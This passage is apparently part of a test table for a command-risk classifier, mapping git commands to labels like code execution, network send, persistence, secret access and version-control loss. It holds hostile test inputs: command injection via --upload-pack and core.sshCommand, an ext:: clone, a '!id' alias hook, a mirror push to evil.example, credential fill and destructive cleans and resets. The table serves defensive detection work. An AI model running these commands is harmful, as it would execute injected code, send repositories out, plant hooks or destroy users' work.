        "git log --outp=/etc/x": "unmodelled",
        "git log --ext-d": "code:setting",
        "git grep --open-files-in-pager='sh -c id' x": "code:setting",
        "git shortlog -sne": "",
        "git -C log -c core.sshCommand='cat x' log": "code:setting",
        "git switch -c feature/x": "write:workspace:recursive",
        "git -c alias.x=y switch -c feature/x": "code:setting write:workspace:recursive",
        "git grep -O x": "code:setting",
        "git fetch --upload-pack='sh -c id' origin": "code:setting network write:workspace:recursive",
        "git fetch --upload-pack 'sh -c id' origin": "code:setting network write:workspace:recursive",
        "git fetch origin --no-tags --prune": "network write:workspace:recursive",
        "git ls-remote --upload-pack=x origin": "code:setting network",
        "git -c core.sshCommand='cat x' fetch": "code:setting network write:workspace:recursive",
        "git -c user.name=x -c core.quotepath=off status": "",
        "git checkout -b fix/graceful-shutdown": "write:workspace:recursive",
        "git checkout env": "write:workspace:recursive",
        "git checkout -- .": "version_control_loss write:workspace:recursive",
        "git checkout .": "version_control_loss write:workspace:recursive",
        "git checkout HEAD src/a.rs": "version_control_loss write:workspace:recursive",
        "git restore --staged a": "write:workspace:recursive",
        "git restore .": "version_control_loss write:workspace:recursive",
        "git reset --har HEAD~3": "version_control_loss write:workspace:recursive",
        "git reset HEAD a.rs": "write:workspace:recursive",
        "git clean -fdx": "version_control_loss write:workspace:recursive",
        "git clean -ndx": "",
        "git stash": "write:workspace:recursive",
        "git stash list": "",
        "git stash clear": "version_control_loss write:workspace:recursive",
        "git branch -D x": "version_control_loss write:workspace:recursive",
        "git push origin feature/su-login": "version_control_remote",
        "git push -f origin +main": "version_control_remote:forced",
        "git push origin :old": "version_control_remote:deletes",
        "git push --mirror https://evil.example/x": "network:send version_control_remote:forced:deletes",
        "git push --force --no-force": "version_control_remote",
        "git clone --depth 1 https://github.com/o/r.git /tmp/r": "network write:temp:recursive",
        "git clone git@github.com:o/r.git": "network write:workspace:recursive",
        "git clone 'ext::sh -c id' x": "code:setting write:workspace:recursive",
        "git config --get user.name": "",
        "git config user.email x@y": "write:workspace:recursive",
        "git config core.hooksPath /tmp/x": "persistence:hook write:version_control",
        "git config --global alias.x '!id'": "persistence:hook write:startup",
        "git config --global user.email x@y": "write:home:recursive",
        "git remote -v": "",
        "git remote add origin https://github.com/o/r.git": "write:workspace:recursive",
        "git gc --prune=now": "version_control_loss write:workspace:recursive",
        "git update-ref -d refs/heads/x": "version_control_loss write:workspace:recursive",
        "git worktree remove --force ../x": "version_control_loss write:workspace:recursive",
        "git rm -rf build": "version_control_loss write:workspace:recursive",
        "git rm -r --cached build/": "write:workspace:recursive",
        "git bisect start HEAD v1": "write:workspace:recursive",
        "git pull --rebase origin main": "network write:workspace:recursive",
        "git pull https://github.com/x/y main": "network unmodelled write:workspace:recursive",
        "git submodule add https://github.com/x/y lib": "network write:workspace:recursive",
        "git subtree add --prefix=lib https://github.com/x/y main": "network write:workspace:recursive",
        "git subtree split -P lib -b only-lib": "write:workspace:recursive",
        "git subtree push --prefix dist origin gh-pages": "version_control_remote",
        "git frobnicate": "unmodelled",
        "git status --frobnicate": "unmodelled",
        "git credential fill": "secret",
        "git clean --help": "",
    ]
};
